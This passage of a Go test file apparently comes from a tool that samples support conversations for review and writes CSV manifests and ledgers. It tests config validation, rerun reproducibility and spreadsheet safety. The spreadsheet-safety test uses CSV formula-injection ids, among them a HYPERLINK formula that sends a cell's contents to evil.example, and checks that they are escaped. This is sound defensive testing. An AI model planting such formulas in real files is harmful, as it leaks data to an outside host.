		{"attribute", func(c *Config) { c.AttributeTo = "busiest" }, "attribute-to:"},
		{"from after to", func(c *Config) {
			c.From = time.Date(2026, 3, 5, 0, 0, 0, 0, time.UTC)
			c.To = time.Date(2026, 3, 4, 0, 0, 0, 0, time.UTC)
		}, "from: 2026-03-05 is after to: 2026-03-04"},
		{"reviewers", func(c *Config) { c.Reviewers, c.Calibration = []string{"ana", "bo"}, 3 }, ""},
		{"reviewer twice", func(c *Config) { c.Reviewers = []string{"ana", "bo", "ana"} }, `reviewers: "ana" is listed twice`},
		{"empty reviewer", func(c *Config) { c.Reviewers = []string{"ana", ""} }, "reviewers: entry 2"},
		{"calibration with one reviewer", func(c *Config) { c.Reviewers, c.Calibration = []string{"ana"}, 2 }, "calibration: 2 conversations need at least two reviewers"},
		{"negative calibration", func(c *Config) { c.Calibration = -1 }, "calibration: -1"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			c := ok
			tt.edit(&c)
			err := c.Validate()
			switch {
			case tt.field == "" && err != nil:
				t.Errorf("Validate() = %v, want nil", err)
			case tt.field != "" && (err == nil || !strings.Contains(err.Error(), tt.field)):
				t.Errorf("Validate() = %v, want an error naming %q", err, tt.field)
			}
		})
	}
}

func TestSampleMissingWarehouse(t *testing.T) {
	_, err := Sample(context.Background(), Config{DB: filepath.Join(t.TempDir(), "none.duckdb"), Out: t.TempDir()})
	if err == nil || !strings.Contains(err.Error(), "parley build") {
		t.Errorf("Sample on a missing warehouse: %v, want a hint to run parley build", err)
	}
}

// TestLedgerAndManifestAreSpreadsheetSafe: ids a spreadsheet would run as
// formulas are neutralised in manifest.csv and ledger.csv, and the ledger
// reads back unchanged: a later run still skips exactly those conversations.
func TestLedgerAndManifestAreSpreadsheetSafe(t *testing.T) {
	hostile := []string{`=HYPERLINK("http://evil.example/?x="&A1,"open")`, "-5", "+1+1", "@SUM(A1:A9)", "\t=1+1", "\r=1+1", "'quoted", "plain"}
	var convs []fconv
	for _, id := range hostile {
		convs = append(convs, fconv{id: id, agent: "=agent", day: 10, complete: true})
	}
	for i := range 3 {
		convs = append(convs, fconv{id: fmt.Sprintf("later-%d", i), agent: "=agent", day: 10, complete: true})
	}
	db := newWarehouse(t, convs)
	out := t.TempDir()
	cfg := Config{DB: db, Out: out, Size: len(convs), Seed: 1, RandomShare: 1}
	cfg.Now = fixtureNow
	res, first := runSample(t, cfg)
	if len(first) != len(convs) {
		t.Fatalf("sampled %d, want all %d", len(first), len(convs))
	}

	f, err := os.Open(filepath.Join(res.Dir, "manifest.csv"))
	if err != nil {
		t.Fatal(err)
	}
	manifest, err := csv.NewReader(f).ReadAll()
	f.Close()
	if err != nil {
		t.Fatal(err)
	}
	ledger := readLedgerRows(t, filepath.Join(out, DefaultLedgerName))
	inFile := map[string]bool{}
	for _, row := range manifest[1:] {
		inFile[row[1]] = true
		if row[2] != "'=agent" {
			t.Errorf("manifest agent_id %q, want '=agent", row[2])
		}
	}
	for _, row := range ledger {
		if !inFile[row[2]] {
			t.Errorf("ledger conversation_id %q is not as in the manifest", row[2])
		}
	}
	for _, id := range hostile {
		if want := csvsafe.Escape(id); !inFile[want] {
			t.Errorf("manifest.csv lacks %q (the neutralised %q)", want, id)
		}
	}
	for cell := range inFile {
		if c := cell[0]; strings.ContainsRune("=+-@\t\r", rune(c)) {
			t.Errorf("manifest.csv cell %q starts with %q", cell, c)
		}
	}

	// The next day's run reads the ledger back: every id must match the
	// warehouse's, or the run would sample the same conversations again.
	add := []fconv{{id: "new-1", agent: "=agent", day: 10, complete: true}}
	db = newWarehouse(t, append(convs, add...))
	cfg.DB, cfg.Now = db, fixtureNow.AddDate(0, 0, 1)
	res, second := runSample(t, cfg)
	if got := ids(second); !slices.Equal(got, []string{"new-1"}) {
		t.Errorf("the next run sampled %q, want only the new conversation", got)
	}
	if res.Skipped != len(convs) {
		t.Errorf("Skipped = %d, want %d", res.Skipped, len(convs))
	}
	l, err := readLedger(filepath.Join(out, DefaultLedgerName))
	if err != nil {
		t.Fatal(err)
	}
	read := map[string]bool{}
	for _, row := range l.rows {
		read[row[2]] = true
		if row[3] != "=agent" {
			t.Errorf("ledger agent read back as %q", row[3])
		}
	}
	for _, id := range hostile {
		if !read[id] {
			t.Errorf("ledger did not read %q back", id)
		}
	}
}

// TestSampleRerunAfterLaterRun: rerunning a run after a later run of the
// same ledger reproduces its packet byte for byte, keeping its reviewed
// ledger rows where they were: it skips only what the runs before it
// sampled, not its own picks nor the later run's (which skipped its picks).
// It used to skip the later run's picks too, so it drew other
// conversations, replaced the packet and dropped the reviewed rows: those
// conversations became sampleable again though their reviews name the run.
// A rerun that cannot reproduce the run (the warehouse changed) is refused,
// writing nothing, when it would drop a reviewed row or draw a conversation
// a later run holds.
func TestSampleRerunAfterLaterRun(t *testing.T) {
	convs := varied(40)
	from, to := time.Date(2026, 3, 1, 0, 0, 0, 0, time.UTC), time.Date(2026, 3, 15, 0, 0, 0, 0, time.UTC)
	tests := []struct {
		name string
		// laterSize is the later run's size; review imports reviews of the
		// first run's picks; without drops the rerun is on the first
		// warehouse, else on one without the first run's first pick.
		laterSize    int
		review, drop bool
		wantErr      []string // nil: the rerun reproduces the run
	}{
		{name: "reviewed, later run", laterSize: 20, review: true},
		{name: "reviewed, later run took every other", laterSize: 40, review: true},
		{name: "not reviewed, later run", laterSize: 20},
		{name: "warehouse lost a reviewed conversation", laterSize: 20, review: true, drop: true,
			wantErr: []string{"would drop the ledger's reviewed rows of", "conv-"}},
		{name: "warehouse lost a conversation, later run took every other", laterSize: 40, drop: true,
			wantErr: []string{"would draw", "sampled by the later run 2026-03-20-2"}},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			db := newWarehouse(t, convs)
			out := t.TempDir()
			ledgerPath := filepath.Join(out, DefaultLedgerName)
			first := Config{DB: db, Out: out, Size: 5, Seed: 1, From: from, To: to, Now: fixtureNow, Strata: []string{Escalated, LowCSAT}, RandomShare: TargetedOnly}
			res1, rows1 := runSample(t, first)
			packet1 := readTree(t, res1.Dir)
			if tt.review {
				var lines []string
				for i, r := range rows1 {
					lines = append(lines, scoreLine(t, func(m map[string]any) {
						m["review_id"], m["run"], m["conversation_id"], m["agent_id"] = fmt.Sprintf("rv-first-%d", i), res1.Run, r.ConversationID, r.Agent
					}))
				}
				imp, err := Import(context.Background(), ImportConfig{Lake: newLake(t), Files: []string{writeFile(t, t.TempDir(), "scores.jsonl", lines...)},
					Settings: testSettings(), Ledger: ledgerPath, Now: fixtureNow})
				if err != nil || imp.LedgerRows != len(rows1) {
					t.Fatalf("import: %+v, %v; want %d ledger rows reviewed", imp, err, len(rows1))
				}
			}
			later := first
			later.Seed, later.Size = 2, tt.laterSize
			_, rows2 := runSample(t, later)
			if overlap := intersect(ids(rows1), ids(rows2)); len(overlap) > 0 {
				t.Fatalf("the later run repeated %v", overlap)
			}
			ledgerBefore, err := os.ReadFile(ledgerPath)
			if err != nil {
				t.Fatal(err)
			}

			rerun := first
			if tt.drop {
				rerun.DB = newWarehouse(t, slices.DeleteFunc(slices.Clone(convs), func(c fconv) bool { return c.id == rows1[0].ConversationID }))
			}
			res3, err := Sample(context.Background(), rerun)
			if tt.wantErr != nil {
				if !errors.Is(err, ErrRerunDiffers) {
					t.Fatalf("rerun: %v, want ErrRerunDiffers", err)
				}
				for _, w := range tt.wantErr {
					if !strings.Contains(err.Error(), w) {
						t.Errorf("error %q does not say %q", err, w)
					}
				}
			} else if err != nil {
				t.Fatalf("rerun: %v", err)
			} else if res3.Skipped != res1.Skipped {
				t.Errorf("rerun skipped %d as sampled before, first time %d", res3.Skipped, res1.Skipped)
			}
			// Reproduced or refused, the packet is the first run's, byte for byte.
			packet3 := readTree(t, res1.Dir)
			if !slices.Equal(slices.Sorted(maps.Keys(packet1)), slices.Sorted(maps.Keys(packet3))) {
				t.Fatalf("packet files %v, first time %v", slices.Sorted(maps.Keys(packet3)), slices.Sorted(maps.Keys(packet1)))
			}
			for name, data := range packet1 {
				if !bytes.Equal(data, packet3[name]) {
					t.Errorf("%s differs from the first run's", name)
				}
			}
			// The ledger: the first run's rows first, still reviewed, then the later run's.
			ledgerAfter, err := os.ReadFile(ledgerPath)
			if err != nil {
				t.Fatal(err)
			}
			if tt.wantErr != nil && !bytes.Equal(ledgerAfter, ledgerBefore) {
				t.Errorf("the refused rerun changed the ledger")
			}
			led := readLedgerRows(t, ledgerPath)
			if len(led) != len(rows1)+len(rows2) {
				t.Fatalf("ledger has %d rows, want %d+%d", len(led), len(rows1), len(rows2))
			}
			wantStatus := StatusSampled
			if tt.review {
				wantStatus = StatusReviewed
			}
			for i, row := range led {
				switch {
				case i < len(rows1):
					if row[colRun] != res1.Run || row[colConversation] != rows1[i].ConversationID || row[colStatus] != wantStatus {
						t.Errorf("ledger row %d: %v, want %s of run %s, %s", i, row, rows1[i].ConversationID, res1.Run, wantStatus)
					}
				case row[colRun] != "2026-03-20-2" || row[colStatus] != StatusSampled:
					t.Errorf("ledger row %d: %v, want a sampled row of the later run", i, row)
				}
			}
		})
	}
}
